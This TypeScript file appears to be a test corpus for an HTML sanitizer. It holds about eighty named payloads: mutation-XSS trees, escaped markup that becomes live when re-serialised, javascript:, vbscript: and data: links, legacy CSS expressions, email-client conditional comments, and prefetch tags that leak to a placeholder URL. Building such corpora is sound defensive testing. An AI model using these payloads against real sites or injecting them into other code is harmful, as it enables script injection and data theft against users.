/**
 * HTML that does nothing in this browser as it stands: it attacks a rewriting that reads it otherwise than a browser, that
 * writes it so that a browser reads it otherwise again, or older browsers and other programs.
 */
export const SLEEPING: Readonly<Record<string, string>> = {
  // Text that becomes markup when it is written again
  'an example whose text is markup': '<xmp><img src=x onerror=boese()></xmp>',
  'a plain text whose text is markup': '<plaintext><img src=x onerror=boese()>',
  'noembed whose text is markup': '<noembed><img src=x onerror=boese()></noembed>',
  'a text field whose text is markup': '<textarea><img src=x onerror=boese()></textarea>',
  'a frame whose text is markup': '<iframe><img src=x onerror=boese()></iframe>',
  'an option whose text is markup': '<select><option>&lt;img src=x onerror=boese()&gt;</option></select>',
  'an option outside its list': '<option>&lt;script&gt;boese()&lt;/script&gt;</option>',
  'escaped markup': '&lt;script&gt;boese()&lt;/script&gt;',
  'markup escaped twice': '&amp;lt;img src=x onerror=boese()&amp;gt;',
  'markup escaped without the last sign': '&ltimg src=x onerror=boese()&gt',
  'a style in svg with escaped markup': '<svg><style>&lt;/style&gt;&lt;img src=x onerror=boese()&gt;</style></svg>',
  'an escaped end of a style': '<style>&lt;/style&gt;&lt;img src=x onerror=boese()&gt;</style>',
  'a style that ends with the document': '<style>a{content:"</sty',
  'a style whose end lies across two': '<style>a{b:"</st</style><style>yle><img src=x onerror=boese()>"}</style>',
  'a template': '<template><script>boese()</script></template>',
  'a template inside a template': '<template><template></template><img src=x onerror=boese()></template>',
  'an attribute that holds a tag': '<p title="&quot;><img src=x onerror=boese()>">a</p>',
  'an attribute with a quote as a reference': "<p title='a&#34; onmouseover=&#34;boese()'>a</p>",
  'a comment that holds its end as a reference': '<!-- --&gt;<img src=x onerror=boese()> -->',
  'a declaration with a tag': '<!doctype html "<img src=x onerror=boese()>">',

  'a picture without the end of its tag': '<img src=x onerror=boese() a="',
  'CDATA of svg': '<svg><![CDATA[><img src=x onerror=boese()>]]></svg><p title="]]><img src=x onerror=boese()>">',

  // Trees that change when they are read again
  'a form that leaves its place': '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=boese()>',
  'a table that leaves its place':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=boese()&gt;">',
  'a paragraph inside a paragraph of svg': '<p><svg><p><style><!--</style><b title="--><img src=x onerror=boese()>">',
  'a script inside mathml inside svg': '<svg><math><mi><svg><style><b id="</style><img src=x onerror=boese()>">',
  'an annotation that is not HTML': '<math><annotation-xml><style><img src=x onerror=boese()></annotation-xml></math>',
  'a style of svg inside a style of svg': '<svg><style><svg><b title="</style><img src=x onerror=boese()>">',
  'a list inside a list': '<select><select><iframe><select><img src=x onerror=boese()></select></iframe>',
  'noscript whose end an ancestor brings': '<div><noscript></div><p title="<img src=x onerror=boese()>">a</p>',
  'noscript inside a style inside noscript': '<noscript><style></noscript><b title="<img src=x onerror=boese()>">',
  'an end tag with attributes': '</p onmouseover=boese() style="position:fixed;inset:0">a',
  'six hundred elements before a style of svg': `${'<div>'.repeat(600)}<svg><style><b title="</style><img src=x onerror=boese()>">`,
  'a frame inside a frame inside a frame': `${'<iframe>'.repeat(50)}<img src=x onerror=boese()>`,

  // Names and addresses that only some programs read
  'a tag with a nought in its name': '<scr\0ipt>boese()</scr\0ipt><i\0mg src=x onerror=boese()>',
  'a tag with a sign that folds to a letter': '<\u017fcript>boese()</\u017fcript><\u017fvg onload=boese()>',
  'a link with a sign that folds to a letter': '<lin\u212a rel=stylesheet href="{url}">',
  'a tag with a prefix': '<svg:svg><svg:script>boese()</svg:script><x:img src=x onerror=boese()>',
  'a tag behind a byte order mark': '\ufeff<\ufeffscript>boese()</script>',
  'a tag in full-width letters': '\uff1cscript\uff1eboese()\uff1c/script\uff1e',
  'a tag split by another': '<scr<script>ipt>boese()</scr</script>ipt>',
  'an attribute with a nought': '<img src=x on\0error=boese()>',
  'an attribute whose name holds a tag': '<p <img src=x onerror=boese()>>a</p>',
  'a link with vbscript': '<a href="vbscript:boese()" style="font-size:90px">Hier klicken</a>',
  'a link with a document': '<a href="data:text/html,<script>boese()</script>" style="font-size:90px">Hier</a>',
  'a link to a program': '<a href="ms-word:ofe|u|{url}" style="font-size:90px">Hier klicken</a>',
  'a link to a file': '<a href="file://{host}" style="font-size:90px">Hier klicken</a>',
  'a link of mathml': '<math href="javascript:boese()" xlink:href="javascript:boese()">Hier klicken</math>',
  'a link that an animation makes':
    '<svg><a><animate attributeName=href values="#a;javascript:boese()" fill=freeze dur=.01s /><rect width=300 height=150 /></a></svg>',
  'a link that an animation makes, by a name with a space':
    '<svg><a><animate attributeName="href " values="javascript:boese()" /><rect width=300 height=150 /></a></svg>',
  'a picture that runs, used by svg':
    "<svg><use href=\"data:image/svg+xml,<svg id=a xmlns='http://www.w3.org/2000/svg' onload='boese()'/>#a\"/></svg>",
  'a picture that runs': "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='boese()'/>\">",
  'a picture with a script for an address':
    '<img src="javascript:boese()" lowsrc="{url}" dynsrc="{url}" longdesc="{url}">',
  'a refresh to a script': '<meta http-equiv=refresh content="0;url=javascript:boese()">',
  'a refresh to a document': '<meta http-equiv=refresh content="0;url=data:text/html,<script>boese()</script>">',
  'a base of scripts': '<base href="javascript:boese();//"><a href="/a" style="font-size:90px">Hier klicken</a>',
  'a frame relative to nothing': '<iframe src="relative://relative-site/"></iframe>',
  connections: '<link rel=preconnect href="{url}"><link rel="dns-prefetch preconnect" href="//{host}" crossorigin>',
  'a frame whose host seems another': '<iframe src="http://www.beispiel.example@{host}"></iframe>',
  'names of hosts': '<link rel=dns-prefetch href="//{host}"><meta http-equiv=x-dns-prefetch-control content=on>',
  'a manifest': '<html manifest="{url}"><link rel=manifest href="{url}"><head profile="{url}">',
  'an applet': '<applet code=a archive="{url}" codebase="{url}"></applet>',
  'a sound in the background': '<bgsound src="{url}"><menuitem icon="{url}">',
  'new kinds of frames': '<portal src="{url}"></portal><fencedframe src="{url}"></fencedframe>',
  'data for programs': '<script type="application/ld+json">{"@id":"{url}"}</script><div itemprop=a itemid="{url}">',
  'pages to come': '<script type=speculationrules>{"prefetch":[{"urls":["{url}"],"eagerness":"immediate"}]}</script>',

  // Styles of old browsers, and of those to come
  'a style that runs': '<p style="width:expression(boese());behavior:url({url});-moz-binding:url({url})">a',
  'a style with the address of a script':
    '<p style="background:url(javascript:boese())">a<style>@import "javascript:boese()";</style>',
  'a style in its own language':
    '<style type="text/javascript">boese()</style><p style=\'a:"</style><script>boese()</script>"\'>',
  'a filter of another page': '<p style="filter:url({url}#a);behavior:url({url})">a',
  'a style with a map of its source':
    '<style>p{a:b} /*# sourceMappingURL={url} */</style><p style="a:b/*# sourceMappingURL={url} */">',
  'a style that leaves its attribute': '<p style="color:red}</style><img src=x onerror=boese()><style>{">a</p>',
  'a style whose picture has a name that leaves it':
    '<style>p{background:url(cid:</style><img src=x onerror=boese()>)}</style>',
  'a style with the addresses of attributes':
    '<p title="{url}" style="background:image-set(attr(title))">a<p style="background:src(\'{url}\')">',

  // Mail
  'a picture of Office': '<v:rect><v:fill src="{url}"/><v:imagedata src="{url}"/></v:rect>',
  'a note for Outlook': '<!--[if gte mso 9]><img src="{url}"><script>boese()</script><![endif]-->',
  'an island of XML':
    '<xml id=a><b><![CDATA[<img src=x onerror=boese()>]]></b></xml><p datasrc=#a datafld=b dataformatas=html>',
  'elements of AMP': '<amp-img src="{url}"></amp-img><amp-script script=a></amp-script>',
  'names that hide those of the page':
    '<form id=document name=body><input name=attributes><input id=cookie></form><a name=boese>',
  'attributes as a webmail keeps them of the body':
    '<body title="bgcolor=a" name="b onload=boese() style=animation-name:k">',
  'a placeholder inside a handler':
    '<p data-a="{{boese()}}" ng-app ng-click="boese()" hx-get="{url}" x-init="boese()">{{boese()}}</p>',
}
